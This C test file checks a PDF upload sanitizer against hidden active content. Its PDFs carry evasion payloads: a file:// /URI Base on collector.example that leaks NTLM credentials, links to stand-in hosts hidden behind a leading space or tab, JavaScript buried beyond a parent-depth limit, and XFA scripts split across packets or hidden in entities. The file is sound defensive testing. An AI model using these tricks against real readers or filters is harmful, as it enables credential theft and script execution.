/*
 * test_pdf_normalize_hidden.c: actions an upload hides from the walk of
 * pdf/active.c and pdf/active_xfa.c (review51): where a viewer finds them
 * and the walk does not look.
 */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pdf.h"
#include "pdf_int.h"
#include "test_pdf_normalize.h"

/* objs (count objects, the catalog first) made into a PDF and normalized as an upload (make()
   holds 16 objects: this one as many as the test gives) */
static int
upload(const char *const *objs, int count, struct pdf_normalized *n, struct sp_errinfo *ei)
{
	size_t cap = 4096, len = 0, xref, *off = calloc((size_t)count, sizeof(*off));
	char *d = NULL;
	int i, r;

	for (i = 0; i < count; i++)
		cap += strlen(objs[i]) + 64;
	d = malloc(cap);
	ck_assert(d != NULL && off != NULL);
	len += (size_t)snprintf(d + len, cap - len, "%%PDF-1.7\n%%\xe2\xe3\xcf\xd3\n");
	for (i = 0; i < count; i++) {
		off[i] = len;
		len += (size_t)snprintf(d + len, cap - len, "%d 0 obj\n%s\nendobj\n", i + 1,
					objs[i]);
	}
	xref = len;
	len += (size_t)snprintf(d + len, cap - len, "xref\n0 %d\n0000000000 65535 f \n", count + 1);
	for (i = 0; i < count; i++)
		len += (size_t)snprintf(d + len, cap - len, "%010zu 00000 n \n", off[i]);
	len += (size_t)snprintf(d + len, cap - len,
				"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%zu\n%%%%EOF\n",
				count + 1, xref);
	ck_assert(len < cap);
	sp_errinfo_init(ei);
	r = pdf_upload_normalize((unsigned char *)d, len, n, ei);
	free(off);
	free(d);
	return r;
}

/*
 * A relative /URI address joined to the catalog's /URI /Base (ISO 32000-2
 * §12.6.4.8, Table 208): PDFium (CPDF_Action::GetURI: a URI without ':' gets
 * the /Base string in front) and poppler (LinkURI: baseURI, then the
 * relative part) open "file://collector.example/share/terms.pdf", a file on
 * a remote share, which Windows answers with the reader's NTLM credentials:
 * what d0ec959 removes when the link says it itself. The walk keeps the
 * relative address ("no ':'") and never reads the catalog's /URI.
 * A web /Base with the same link stays (a bank's site, as viewers join it).
 */
START_TEST(relative_link_under_a_file_base)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R /URI << /Base (https://bank.example/contracts/) "
		">> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (terms.pdf) "
		">> >>",
	};
	const char *hostile[4];
	const char *sobjs[SIGNED_OBJS + 1];
	struct pdf_normalized n;
	struct sp_errinfo ei;

	ck_assert_int_eq(upload(objs, 4, &n, &ei), SP_OK);
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "https://bank.example/contracts/", 31));
	ck_assert_ptr_nonnull(memmem(n.data, n.len, "terms.pdf", 9));
	pdf_normalized_cleanup(&n);

	memcpy(hostile, objs, sizeof(hostile));
	hostile[0] =
		"<< /Type /Catalog /Pages 2 0 R /URI << /Base (file://collector.example/share/) "
		">> >>";
	ck_assert_int_eq(upload(hostile, 4, &n, &ei), SP_OK);
	ck_assert_msg(memmem(n.data, n.len, "collector.example", 17) == NULL ||
			      memmem(n.data, n.len, "terms.pdf", 9) == NULL,
		      "the stored upload still opens file://collector.example/share/terms.pdf "
		      "(the catalog's /URI /Base joined to a kept relative link; %zu actions "
		      "removed)",
		      n.actions_removed);
	pdf_normalized_cleanup(&n);

	/* a signed upload, kept byte for byte, is refused as its file: link would be */
	memcpy(sobjs, signed_objs, sizeof(signed_objs));
	sobjs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> /URI << /Base "
		   "(file://collector.example/share/) >> >>";
	sobjs[2] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 7 0 R] >>";
	sobjs[SIGNED_OBJS] = "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
			     "(terms.pdf) >> >>";
	ck_assert_msg(upload(sobjs, SIGNED_OBJS + 1, &n, &ei) == SP_ERR_UNSUPPORTED,
		      "a signed upload whose link opens file://collector.example/share/terms.pdf "
		      "was kept");
	ck_assert_str_eq(ei.reason, "pdf_active_content");
}
END_TEST

/*
 * A relative address that starts with white space or a control character:
 * URL parsers drop those first (WHATWG URL: "remove any leading and
 * trailing C0 control or space"; Chromium's GURL, which resolves a PDF
 * link in Chrome and Edge), so " //relay.example/share/y.png" is the
 * scheme-relative "//relay.example/share/y.png" that d0ec959 removes
 * (resolved against a file: document, a remote share). uri_kept()'s
 * "no leading '/'" looks at the first byte as it is.
 */
START_TEST(relative_link_after_white_space)
{
	static const char *const objs[] = {
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R] >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI "
		"( //relay.example/share/y.png) >> >>",
		"<< /Type /Annot /Subtype /Link /Rect [0 10 10 20] /A << /S /URI /URI "
		"(\\t//collector.example/share/z.png) >> >>",
	};
	struct pdf_normalized n;
	struct sp_errinfo ei;

	ck_assert_int_eq(upload(objs, 5, &n, &ei), SP_OK);
	ck_assert_msg(memmem(n.data, n.len, "relay.example", 13) == NULL &&
			      memmem(n.data, n.len, "collector.example", 17) == NULL,
		      "the stored upload still opens //relay.example/share/y.png or "
		      "//collector.example/share/z.png after a leading space or tab (%zu actions "
		      "removed)",
		      n.actions_removed);
	pdf_normalized_cleanup(&n);
}
END_TEST

/*
 * A widget's field far up its /Parent chain: pdf.js takes /AA through every
 * /Parent (core_utils.js getInheritableProperty: no depth, a set of the
 * objects visited), the nearest field's trigger first. The walk reads 64
 * levels (PARENT_DEPTH_MAX) and stops without a word: the keystroke script
 * of the field 70 levels up, which /AcroForm /Fields does not list, stays.
 */
START_TEST(script_beyond_the_parent_depth)
{
	enum { LEVELS = 70 };
	static char body[LEVELS][96];
	const char *objs[4 + LEVELS];
	struct pdf_normalized n;
	struct sp_errinfo ei;
	int i;

	objs[0] = "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>";
	objs[1] = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
	objs[2] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>";
	objs[3] = "<< /Type /Annot /Subtype /Widget /Parent 5 0 R /P 3 0 R /Rect [0 0 10 10] >>";
	/* field 5 + i names field 6 + i as its parent; the last holds the script */
	for (i = 0; i < LEVELS; i++) {
		if (i + 1 < LEVELS)
			snprintf(body[i], sizeof(body[i]), "<< /T (f%d) /Parent %d 0 R >>", i,
				 6 + i);
		else
			snprintf(body[i], sizeof(body[i]),
				 "<< /FT /Tx /T (top) /AA << /K << /S /JavaScript /JS "
				 "(event.value = 900) >> >> >>");
		objs[4 + i] = body[i];
	}
	ck_assert_int_eq(upload(objs, 4 + LEVELS, &n, &ei), SP_OK);
	ck_assert_msg(memmem(n.data, n.len, "event.value", 11) == NULL,
		      "the stored upload's widget still runs the keystroke script of its field "
		      "%d levels up (%zu actions removed)",
		      LEVELS, n.actions_removed);
	pdf_normalized_cleanup(&n);
}
END_TEST

/* signed_objs with an XFA form whose array is xfa, of the packets streams 7 and 8 */
static int
signed_xfa_in(const char *xfa, const char *p1, const char *p2, struct pdf_normalized *n,
	      struct sp_errinfo *ei)
{
	static char s1[1024], s2[1024], cat[256];
	const char *objs[SIGNED_OBJS + 2];

	memcpy(objs, signed_objs, sizeof(signed_objs));
	snprintf(cat, sizeof(cat),
		 "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /XFA %s >> >>", xfa);
	objs[0] = cat;
	snprintf(s1, sizeof(s1), "<< /Length %zu >>\nstream\n%s\nendstream", strlen(p1), p1);
	snprintf(s2, sizeof(s2), "<< /Length %zu >>\nstream\n%s\nendstream", strlen(p2), p2);
	objs[SIGNED_OBJS] = s1;
	objs[SIGNED_OBJS + 1] = s2;
	return upload(objs, SIGNED_OBJS + 2, n, ei);
}

static int
signed_xfa2(const char *p1, const char *p2, struct pdf_normalized *n, struct sp_errinfo *ei)
{
	return signed_xfa_in("[(template) 7 0 R (datasets) 8 0 R]", p1, p2, n, ei);
}

/*
 * An XFA form is one XML document cut into packets (ISO 32000-1 §12.7.8,
 * Table 218: "an array of text string and stream pairs representing the
 * individual packets comprising the XML Data Package"): a viewer joins the
 * streams before it parses them (pdf.js XFAFactory._createDocument joins
 * every packet; iText's XfaForm writes each stream into one buffer). Cut
 * "<script>" between two packets, or spell it with character references in
 * an internal entity, and active_xfa.c, which reads each packet on its own
 * for element names, sees none, while the joined document runs the
 * calculation. Both signed forms are kept.
 */
START_TEST(signed_xfa_script_the_packet_reader_misses)
{
	static const struct {
		const char *p1, *p2, *what;
	} cases[] = {
		{ "<template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><field "
		  "name=\"amount\"><calculate><scr",
		  "ipt contentType=\"application/x-javascript\">900</script></calculate></field>"
		  "</subform></template>",
		  "a <script> cut between two packets" },
		/* an internal entity whose value is markup once its references are read (XML 1.0
		   §4.5: "&#60;" in an entity value is '<' in its replacement text) */
		{ "<?xml version=\"1.0\"?><!DOCTYPE template [<!ENTITY c \"&#60;calculate>&#60;"
		  "script>900&#60;/script>&#60;/calculate>\">]><template><subform><field "
		  "name=\"amount\">&c;</field></subform></template>",
		  "", "a <script> in an internal entity" },
	};
	struct pdf_normalized n;
	struct sp_errinfo ei;
	size_t i;

	/* (the same script whole in the first packet: refused, by this helper too) */
	ck_assert_int_eq(signed_xfa2("<template><subform><field name=\"amount\"><calculate><script>"
				     "900</script></calculate></field></subform></template>",
				     "", &n, &ei),
			 SP_ERR_UNSUPPORTED);
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int r = signed_xfa2(cases[i].p1, cases[i].p2, &n, &ei);
		ck_assert_msg(r == SP_ERR_UNSUPPORTED,
			      "case %zu: the signed XFA form with %s was kept (%d: %s)", i,
			      cases[i].what, r, ei.msg);
		ck_assert_str_eq(ei.reason, "pdf_active_content");
	}
	/* a stream the array names twice is in the joined document twice: "ipt>" after
	   "<scr" the second time */
	ck_assert_msg(signed_xfa_in("[(a) 7 0 R (b) 8 0 R (c) 7 0 R]", "ipt>900</script>",
				    "<template><subform><field name=\"amount\"><calculate><scr", &n,
				    &ei) == SP_ERR_UNSUPPORTED,
		      "the signed XFA form whose <script> is cut around a packet named twice was "
		      "kept (%s)",
		      ei.msg);
}
END_TEST

void
pdf_normalize_hidden_add(TCase *tc)
{
	tcase_add_test(tc, relative_link_under_a_file_base);
	tcase_add_test(tc, relative_link_after_white_space);
	tcase_add_test(tc, script_beyond_the_parent_depth);
	tcase_add_test(tc, signed_xfa_script_the_packet_reader_misses);
}
